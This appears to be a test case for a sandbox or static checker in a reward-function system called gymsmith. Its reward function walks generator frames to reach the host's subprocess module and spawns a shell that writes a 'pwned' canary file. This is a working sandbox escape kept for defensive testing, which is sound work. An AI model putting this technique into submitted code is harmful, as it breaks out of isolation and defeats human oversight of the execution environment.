# expect: static
# attack: frame walk to the host module's subprocess and spawns a shell that writes the canary
def reward(obs, action, next_obs, info, state):
    holder = []
    g = (holder[0].gi_frame.f_back for _ in [0])
    holder.append(g)
    frame = list(g)[0]
    while frame is not None and "subprocess" not in frame.f_globals:
        frame = frame.f_back
    sp = frame.f_globals["subprocess"]
    sp.run(["sh", "-c", "echo pwned > /var/tmp/gymsmith_sandbox_canary.txt"])
    return 0.0, {}
